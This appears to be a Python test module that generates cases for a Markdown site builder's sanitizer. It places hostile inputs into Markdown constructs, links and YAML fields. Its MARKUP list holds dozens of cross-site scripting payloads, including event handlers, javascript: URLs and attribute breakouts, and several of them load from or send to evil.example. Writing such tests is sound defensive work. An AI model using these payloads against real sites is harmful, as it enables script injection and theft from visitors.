"""Hostile texts and addresses in every construct of Markdown, and wherever else addresses stand."""

from collections.abc import Iterator

from . import content
from .case import Case
from .fields import yaml_file
from .payloads import ADDRESSES, TEXTS

VISIT = "content/2016/visit.md"

# Where a text can stand in a note. Markdown makes of it what it means there, so that the pages need
# not hold it as it was written.
CONSTRUCTS = {
    "paragraph": "{}",
    "heading": "## {}",
    "heading-underlined": "{}\n---",
    "emphasis": "*{}* __{}__",
    "quote": "> {}",
    "list": "- {}\n- {}",
    "numbers": "1. {}",
    "code": "`{}`",
    "code-block": "    {}",
    "fence": "```\n{}\n```",
    "fence-name": "```{}\na\n```",
    "fence-attributes": "~~~ text {}\na\n~~~",
    "fence-of-site": "```ranking {}\n{}\n```",
    "link-words": "[{}](conference.md)",
    "link-title": '[a](conference.md "{}")',
    "link-title-parentheses": "[a](conference.md ({}))",
    "reference": "[{}]\n\n[{}]: conference.md '{}'",
    "definition": "[a]\n\n[a]: <{}> '{}'",
    "footnote": "a[^1]\n\n[^1]: {}",
    "picture-words": "![{}](hall.png)",
    "picture-title": '![a](hall.png "{}")',
    "picture-name": "![a](<{}>)",
    "table-head": "| {} | b |\n|---|---|\n| 1 | 2 |",
    "table-cell": "| a | b |\n|---|---|\n| {} | `{}` |",
    "quotation": "{{{{{}}}}}",
    "quotation-name": "{{{{points.{}}}}}",
    "html-block": "<div>{}\n\n</div>",
    "html-inline": "a <b title='{}'>{}</b>",
    "html-abbr": 'a <abbr title="{}">b</abbr>',
    "html-details": "<details>\n<summary>a</summary>\n\n{}\n\n</details>",
    "html-cell": "<table><tr><td>{}</td></tr></table>",
    "html-link": '<a href="conference.md" title="{}">{}</a>',
    "html-picture": '<img src="hall.png" alt="{}">',
    "html-language": "<span lang='{}' dir='{}'>a</span>",
    "heading-id": "## a {{#{}}}",
    "footnote-name": "a[^{}]\n\n[^{}]: b",
    "struck-out": "~~{}~~",
    "task": "- [ ] {}",
    "name-with-spaces": "![a](the {} hall.png)",
    "comment": "<!-- {} -->",
    "comment-inline": "a <!-- {} --> b",
    "instruction": "<?php {} ?>",
    "declaration": "<!DOCTYPE {}>",
    "data-section": "<![CDATA[{}]]>",
    "entities": "&lt;script&gt;{}&lt;/script&gt;",
    "escapes": "\\<script\\>{}\\</script\\>",
}

# Where an address can stand in a note.
LINKS = {
    "link": "[a](<{}>)",
    "link-bare": "[a]({})",
    "autolink": "<{}>",
    "reference": "[a]\n\n[a]: <{}>",
    "picture": "![a](<{}>)",
    "picture-reference": "![a][b]\n\n[b]: {}",
    "link-around-picture": "[![a](hall.png)](<{}>)",
    "table": "| a |\n|---|\n| [a](<{}>) |",
    "html-link": '<a href="{}">a</a>',
    "html-link-bare": "<a href={}>a</a>",
    "html-picture": '<img alt="a" src="{}">',
    "html-table": '<table><tr><td><a href="{}">a</a></td></tr></table>',
    "footnote": "a[^1]\n\n[^1]: [a](<{}>)",
}

# Where an address can stand in the fields.
FIELDS = [
    ("content/site.yaml", ("base-url",)),
    (content.FIRST, ("sources", 0, "url")),
    (content.FIRST, ("pictures", 0, "file")),
    ("content/documents.yaml", (0, "sources", 0, "url")),
]

# Markup that HTML knows and Markdown does not.
MARKUP = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example/x><input name=q><button>a</button></form>",
    "<a href=javascript:alert(1)>a</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>a</p>",
    "<div onclick=alert(1) id=_main class=skip>a</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>",
    "<!--><script>alert(1)</script>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<x\n\n<script>alert(1)</script>\n",
    "</main></body></html><script>alert(1)</script>",
    "<plaintext>",
    "</div></div></main><div id=_main>a</div>",
    "</p></td></tr></table></section>a",
    "<table><tr><td></table></td><div><script>alert(1)</script></div>",
    "<details><summary>a</summary></main></details>",
    "<u><a href=conference.md><u></a></u>",
    "<ul><li></ul></li></ul></div>a",
    "<a href='conference.md' id=_main name=_main target=_blank ping=//evil.example onclick=alert(1)>a</a>",
    "<img src=hall.png alt=a srcset='//evil.example/x 2x' onload=alert(1) usemap=#a>",
    "<a href=\"java\nscript:alert(1)\">a</a>",
    "<span lang='\"><script>alert(1)</script>' dir='\"x'>a</span>",
    "<td colspan='2\" onclick=\"alert(1)'>a</td>",
    "<table><tr><td rowspan=99999999>a</td></tr></table>",
    "<p align='center\" onclick=\"alert(1)'>a</p>",
    "<abbr title='\" onmouseover=\"alert(1)'>a</abbr>",
    "<svg>\n\n<script>alert(1)</script>\n\n</svg>",
    "<svg><style><!--</style><img src=x onerror=alert(1)>--></svg>",
    "<u/onclick=alert(1)>a</u/x>",
    "<div\nonclick=alert(1)\n>a</div>",
    "<b onclick=alert(1)>a</b>",
    "<strong style='position:fixed'>a</main></strong>",
    "<i><b><div>a</i></b></div><script>alert(1)</script>",
    "<em lang='\"><script>alert(1)</script>'>a</em>",
    "<code><script>alert(1)</script></code>",
    "<code>`<img src=x onerror=alert(1)>`</code>",
    "<b/onclick=alert(1)>a</b/x><code\nonclick=alert(1)>b</code>",
    "## a {#_main}",
    "## a {#x\" onclick=\"alert(1)}",
    "a[^1\"onclick=alert(1)]\n\n[^1\"onclick=alert(1)]: b",
    "https://example.org/\"onclick=alert(1)",
    "https://example.org/<script>alert(1)</script>",
    "www.example.org/'><script>alert(1)</script>",
    "![a](x \" onerror=alert(1) .png)",
    "~~<u>a~~</u><script>alert(1)</script>",
    "<textarea><script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "[a](<b> onclick=alert(1)>)",
    "[a](hall.png '\" onclick=alert(1) \"')",
    "![\" onerror=alert(1) x=\"](hall.png)",
    "<https://example.org/\"onclick=alert(1)>",
    "<a@example.org\"onclick=alert(1)>",
    "<mailto:a@example.org?subject=<script>alert(1)</script>>",
    "[a](https://example.org/'\"><script>alert(1)</script>)",
    "[a](mailto:a@example.org?body=%0d%0aBcc:b@example.org)",
]


def note(text: str) -> dict[str, bytes]:
    return {VISIT: content.note_text(content.FIELDS[VISIT], f"\n{text}\n").encode()}


def cases() -> Iterator[Case]:
    for construct, form in CONSTRUCTS.items():
        for name, text in TEXTS.items():
            yield Case(f"note {name} {construct}", note(form.format(text, text, text)))
    for number, markup in enumerate(MARKUP):
        yield Case(f"note markup {number}", note(markup))
        yield Case(f"note markup {number} in a line", note(f"a {markup} b"))
    for name, address in ADDRESSES.items():
        for construct, form in LINKS.items():
            yield Case(f"address {name} {construct}", note(form.format(address)))
        for path, place in FIELDS:
            value = (content.YAML | content.FIELDS)[path]
            changed = content.changed(value, place, address)
            spot = ".".join(map(str, place))
            yield Case(f"address {name} {path}:{spot}", {path: yaml_file(path, changed)})
